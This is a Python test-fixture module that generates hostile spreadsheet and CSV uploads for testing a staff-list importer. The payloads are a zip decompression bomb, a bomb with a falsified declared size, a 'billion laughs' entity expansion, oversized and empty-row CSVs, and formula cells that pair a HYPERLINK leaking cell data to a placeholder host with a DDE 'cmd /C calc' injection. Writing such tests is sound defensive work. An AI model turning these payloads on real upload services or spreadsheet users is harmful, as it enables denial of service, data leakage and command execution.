"""Hostile staff-list files, made by the tests themselves: each is what an attacker or a broken export could upload."""
from __future__ import annotations

import io
import itertools
import re
import struct
import zipfile
from typing import Callable, Dict, Iterable, Iterator, List

SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER = '<row r="1"><c r="A1" t="inlineStr"><is><t>Job title</t></is></c></row>'


def _title_row(n: int, title: str) -> str:
    return f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>{title}</t></is></c></row>'


def xlsx(sheets: List[Iterable[str]], prolog: str = "", listed: int = 0) -> bytes:
    """A minimal workbook: each sheet is the XML of its rows, streamed into the zip (never held whole).
    With ``listed``, the workbook lists that many sheets, all of them the first sheet's part."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        overrides = "".join(f'<Override PartName="/xl/worksheets/sheet{n}.xml" ContentType="application/'
                            f'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' for n in range(1, len(sheets) + 1))
        book.writestr("[Content_Types].xml", '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                      'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
                      'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' + overrides + "</Types>")
        book.writestr("_rels/.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                      'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                      'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        names = "".join(f'<sheet name="Sheet{n}" sheetId="{n}" r:id="rId{n}"/>' for n in range(1, len(sheets) + 1))
        names += "".join(f'<sheet name="Also{n}" sheetId="{n + len(sheets)}" r:id="rId1"/>' for n in range(1, listed + 1))
        book.writestr("xl/workbook.xml", f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{SHEET_NS}" xmlns:r="{REL_NS}">'
                      f"<sheets>{names}</sheets></workbook>")
        rels = "".join(f'<Relationship Id="rId{n}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{n}.xml"/>'
                       for n in range(1, len(sheets) + 1))
        book.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                      f'openxmlformats.org/package/2006/relationships">{rels}</Relationships>')
        for n, rows in enumerate(sheets, 1):
            with book.open(f"xl/worksheets/sheet{n}.xml", "w", force_zip64=True) as part:
                part.write(f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{SHEET_NS}"><sheetData>'.encode())
                for chunk in rows:
                    part.write(chunk.encode())
                part.write(b"</sheetData></worksheet>")
    return out.getvalue()


def _batched(rows: Iterator[str], size: int = 10_000) -> Iterator[str]:
    batch: List[str] = []
    for row in rows:
        batch.append(row)
        if len(batch) == size:
            yield "".join(batch)
            batch = []
    yield "".join(batch)


def decompression_bomb(rows: int = 3_000_000) -> bytes:
    """Half a megabyte that expands to millions of rows, as in the issue's report (rows may leave out their numbers)."""
    row = '<row><c t="inlineStr"><is><t>Teacher</t></is></c></row>' * 10_000
    return xlsx([itertools.chain([HEADER], itertools.repeat(row, rows // 10_000))])


def lying_bomb(rows: int = 3_000_000) -> bytes:
    """The same bomb with its sheet's declared uncompressed size rewritten to 1 KB in the central directory."""
    data = bytearray(decompression_bomb(rows))
    name = b"xl/worksheets/sheet1.xml"
    for entry in re.finditer(re.escape(b"PK\x01\x02"), data):  # central directory entries
        at = entry.start()
        length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + length] == name:
            struct.pack_into("<I", data, at + 24, 1024)  # the uncompressed size
            return bytes(data)
    raise AssertionError("the sheet's central directory entry was not found")


def billion_laughs() -> bytes:
    """A sheet whose XML declares entities that expand ten to the power nine times."""
    entities = '<!ENTITY lol "lol">' + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">'
                                               for n in range(1, 10))
    row = '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return xlsx([iter([HEADER, row])], prolog=f"<!DOCTYPE worksheet [{entities}]>")


def one_long_line(megabytes: int = 50) -> bytes:
    """A CSV whose second line is one cell of fifty megabytes."""
    return b"Job title\n" + b"a" * (megabytes * 2**20) + b"\n"


def million_empty_rows() -> bytes:
    """A short list followed by a million rows with nothing in them, as a spreadsheet export can leave."""
    return b"Job title,Contact\nTeacher,some\nSchool nurse,\n" + b",\n" * 1_000_000


def formula_in_every_cell(rows: int = 2_000) -> bytes:
    """Every cell below the header is a formula (with no cached value), including ones that reach outside."""
    cells = lambda n: "".join(f'<c r="{col}{n}"><f>HYPERLINK("http://x.invalid/?"&amp;A1,"x")+cmd|\' /C calc\'!A0</f></c>'
                              for col in "ABCDEFGHIJ")
    header = '<row r="1">' + "".join(f'<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>'
                                     for col, name in zip("ABCDEFGHIJ", ["Job title", "Name"] + [f"C{n}" for n in range(8)])) + "</row>"
    return xlsx([_batched(iter([header] + [f'<row r="{n}">{cells(n)}</row>' for n in range(2, rows + 2)]))])


def thousand_sheets() -> bytes:
    return xlsx([iter([HEADER, _title_row(2, "Teacher")]) for _ in range(1_000)])


# name -> (file name, how to make it)
FILES: Dict[str, tuple[str, Callable[[], bytes]]] = {
    "decompression bomb": ("bomb.xlsx", decompression_bomb),
    "declared size that lies": ("liar.xlsx", lying_bomb),
    "billion laughs": ("laughs.xlsx", billion_laughs),
    "one 50 MB line": ("long.csv", one_long_line),
    "a million empty rows": ("empty.csv", million_empty_rows),
    "a formula in every cell": ("formulas.xlsx", formula_in_every_cell),
    "a thousand sheets": ("sheets.xlsx", thousand_sheets),
}
